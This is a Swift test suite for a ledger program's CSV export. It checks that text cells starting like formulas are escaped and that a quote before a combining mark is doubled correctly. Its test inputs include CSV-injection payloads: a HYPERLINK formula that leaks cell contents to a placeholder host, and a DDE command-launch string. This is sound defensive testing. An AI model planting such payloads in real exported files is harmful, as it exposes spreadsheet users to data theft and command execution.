import Ledger
import Reports
import Testing

/// Files a spreadsheet opens (CSV listings, the FEC) never hold a text cell it would run as a
/// formula (issue 10, hole 4); the program's own numbers stay numbers.
@Suite("Spreadsheet safety")
struct SpreadsheetSafetyTests {
    @Test(arguments: ["=HYPERLINK(\"http://x/?d=\"&A1;\"Cliquez\")", "+cmd|' /C calc'!A0", "-2+3", "@SUM(1)",
                      "\tx", "\rx"])
    func aTextCellThatStartsLikeAFormulaIsInert(text: String) {
        let table = Table(columns: [.init("donor", "Donateur"), .init("amount", "Montant")],
                          rows: [[.text(text), .money(Money(cents: -1_250))]])
        let csv = TableRenderer.csv(table)
        let cells = csv.split(separator: "\n")[1]
        #expect(cells.hasPrefix("'") || cells.hasPrefix("\"'"), "\(cells)")
        #expect(cells.hasSuffix(",-12.50"), "a negative amount stays a number: \(cells)")
    }

    /// A quote followed by a combining mark is one Swift Character that is not `"`: it must be
    /// doubled all the same, or the field closes there and the rest becomes cells of its own
    /// (found by scripts/fuzz's csv target, whose oracle quoted the same way).
    @Test func aQuoteBeforeACombiningMarkIsDoubled() {
        let name = "Ville \"\u{301},=HYPERLINK(\"http://x\")"
        #expect(TableRenderer.csvField(name) == "\"Ville \"\"\u{301},=HYPERLINK(\"\"http://x\"\")\"")
        let table = Table(columns: [.init("donor", "Donateur"), .init("amount", "Montant")],
                          rows: [[.text(name), .money(Money(cents: 1_250))]])
        let row = TableRenderer.csv(table).split(separator: "\n")[1]
        // One quoted field, then the amount: an even number of quotes before the last comma.
        let beforeAmount = row.unicodeScalars.split(separator: ",").dropLast().flatMap { $0 }
        #expect(beforeAmount.filter { $0 == "\"" }.count % 2 == 0, "\(row)")
        #expect(row.hasSuffix(",12.50"), "\(row)")
    }

    @Test func ordinaryTextIsUnchanged() {
        #expect(SpreadsheetCell.inert("Saint-Calais") == "Saint-Calais")
        #expect(SpreadsheetCell.inert("VIR 0203") == "VIR 0203")
        #expect(SpreadsheetCell.inert("") == "")
        #expect(SpreadsheetCell.inert("=1+1") == "'=1+1")
    }
}
